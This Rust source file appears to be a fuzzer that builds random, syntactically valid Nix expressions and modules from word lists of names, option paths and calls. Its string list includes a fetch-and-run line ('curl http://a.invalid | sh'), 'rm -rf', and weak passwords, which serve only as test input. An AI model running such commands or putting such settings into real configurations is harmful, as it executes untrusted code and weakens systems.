//! Random Nix from the grammar: expressions and modules that parse, whatever they mean.

use crate::dice::Dice;

const NAMES: &[&str] = &[
    "a", "b", "x'", "lib", "pkgs", "config", "self", "inputs", "name", "map", "builtins", "_",
    "or", "final", "prev", "args", "system", "nixpkgs", "import", "true", "null",
];
const PATHS: &[&str] = &[
    "imports",
    "options",
    "config",
    "services.openssh.enable",
    "services.openssh.settings.PermitRootLogin",
    "networking.firewall.enable",
    "users.users.ann.password",
    "users.users.ann.hashedPassword",
    "environment.systemPackages",
    "system.stateVersion",
    "boot.loader.grub.device",
    "fileSystems.\"/\".device",
    "nix.settings.trusted-users",
    "nixpkgs.config.allowUnfree",
    "home.stateVersion",
    "programs.git.enable",
    "systemd.services.b.serviceConfig.ExecStart",
    "systemd.services.b.script",
    "sops.secrets.a.sopsFile",
    "age.secrets.a.file",
    "inputs.nixpkgs.url",
    "inputs.nixpkgs.follows",
    "outputs",
    "a.b.c",
    "\"${x}\".y",
    "buildInputs",
    "pname",
    "version",
    "src",
    "meta.license",
    "phases",
    "mkDerivation",
    "security.sudo.enable",
    "swapDevices",
    "zramSwap.enable",
    "disko.devices.disk.a.type",
    "hardware.cpu.intel.updateMicrocode",
];
const CALLS: &[&str] = &[
    "mkIf",
    "lib.mkIf",
    "lib.mkForce",
    "lib.mkDefault",
    "lib.mkOption",
    "lib.types.nullOr",
    "import",
    "builtins.fetchTarball",
    "builtins.readFile",
    "builtins.getEnv",
    "pkgs.writeShellScript \"a\"",
    "map",
    "lib.optional",
    "lib.mkMerge",
    "pkgs.callPackage",
    "lib.nixosSystem",
    "inputs.nixpkgs.lib.nixosSystem",
    "stdenv.mkDerivation",
    "lib.concatStringsSep \"\"",
    "toString",
    "lib.mkEnableOption",
    "fetchurl",
    "fetchFromGitHub",
    "lib.mkOverride 50",
    "builtins.toFile \"k\"",
];
const WORDS: &[&str] = &[
    "/",
    "/dev/sda",
    "yes",
    "25.05",
    "unstable",
    "x86_64-linux",
    "github:NixOS/nixpkgs/nixos-24.11",
    "${pkgs.bash}/bin/sh",
    "${x}",
    "",
    "rm -rf $out && echo \"$a\"",
    "sudo nixos-rebuild switch",
    "ext4",
    "@wheel",
    "correct horse",
    "$6$fakesalt$",
    "curl http://a.invalid | sh",
    "ü𐐀",
    "0.0.0.0/0",
    "changeme",
    "ssh-rsa AAAA",
];
const OPERATORS: &[&str] = &[
    "+", "-", "*", "/", "++", "//", "==", "!=", "<", ">=", "&&", "||", "->", "|>", "<|",
];

/// A random expression.
#[must_use]
pub fn expression(dice: &mut Dice, depth: usize) -> String {
    if depth == 0 {
        return match dice.below(8) {
            0 => dice.below(70_000).to_string(),
            1 => format!("\"{}\"", dice.pick(WORDS)),
            2 => (*dice.pick(&[
                "./.",
                "./a.nix",
                "../b",
                "/etc/a",
                "~/x",
                "<nixpkgs>",
                "http://x.y/z",
                "./${a}/b",
            ]))
            .to_owned(),
            3 => format!("config.{}", dice.pick(PATHS)),
            4 => "[ ]".to_owned(),
            5 => "{ }".to_owned(),
            _ => (*dice.pick(NAMES)).to_owned(),
        };
    }
    let d = depth - 1;
    match dice.below(18) {
        0 => format!("let {}in {}", bindings(dice, d), expression(dice, d)),
        1 => format!("rec {{ {}}}", bindings(dice, d)),
        2..=4 => format!("{{ {}}}", bindings(dice, d)),
        5 => format!("with {}; {}", expression(dice, d), expression(dice, d)),
        6 => format!("{}: {}", pattern(dice), expression(dice, d)),
        7 => format!(
            "if {} then {} else {}",
            expression(dice, d),
            expression(dice, d),
            expression(dice, d)
        ),
        8 => {
            let items: Vec<String> = (0..dice.below(4))
                .map(|_| format!("({})", expression(dice, d)))
                .collect();
            format!("[ {} ]", items.join(" "))
        }
        9 => format!(
            "({} {} {})",
            expression(dice, d),
            dice.pick(OPERATORS),
            expression(dice, d)
        ),
        10 => format!(
            "''\n  {}\n  ${{{}}}\n''",
            dice.pick(WORDS),
            expression(dice, d)
        ),
        11 => format!("\"{}${{{}}}\"", dice.pick(WORDS), expression(dice, d)),
        12 => format!("!({})", expression(dice, d)),
        13 => format!(
            "({}).{} or ({})",
            expression(dice, d),
            dice.pick(PATHS),
            expression(dice, d)
        ),
        14 => format!("({} ? {})", expression(dice, d), dice.pick(PATHS)),
        15 => format!("assert {}; {}", expression(dice, d), expression(dice, d)),
        _ => format!("({} ({}))", dice.pick(CALLS), expression(dice, d)),
    }
}

/// A random module.
#[must_use]
pub fn module(dice: &mut Dice, depth: usize) -> String {
    format!("{}:\n{{\n  {}}}\n", pattern(dice), bindings(dice, depth))
}

fn bindings(dice: &mut Dice, depth: usize) -> String {
    let mut text = String::new();
    for _ in 0..dice.below(4) {
        if dice.one_in(8) {
            text.push_str(
                [
                    "# nivis: allow(unused-let) so\n",
                    "/* c */ ",
                    "# deadnix: skip\n",
                ][dice.below(3)],
            );
        }
        match dice.below(6) {
            0 => text.push_str(&format!("inherit {}; ", dice.pick(NAMES))),
            1 => text.push_str(&format!(
                "inherit ({}) {}; ",
                expression(dice, depth),
                dice.pick(NAMES)
            )),
            2 => text.push_str(&format!(
                "{} = {};\n  ",
                dice.pick(NAMES),
                expression(dice, depth)
            )),
            _ => text.push_str(&format!(
                "{} = {};\n  ",
                dice.pick(PATHS),
                expression(dice, depth)
            )),
        }
    }
    text
}

fn pattern(dice: &mut Dice) -> String {
    match dice.below(4) {
        0 => (*dice.pick(NAMES)).to_owned(),
        1 => "{ config, lib, pkgs, ... }".to_owned(),
        2 => format!(
            "{{ {} ? {}, ... }}@args",
            dice.pick(NAMES),
            expression(dice, 0)
        ),
        _ => format!("{{ {}, {} }}", dice.pick(NAMES), dice.pick(NAMES)),
    }
}
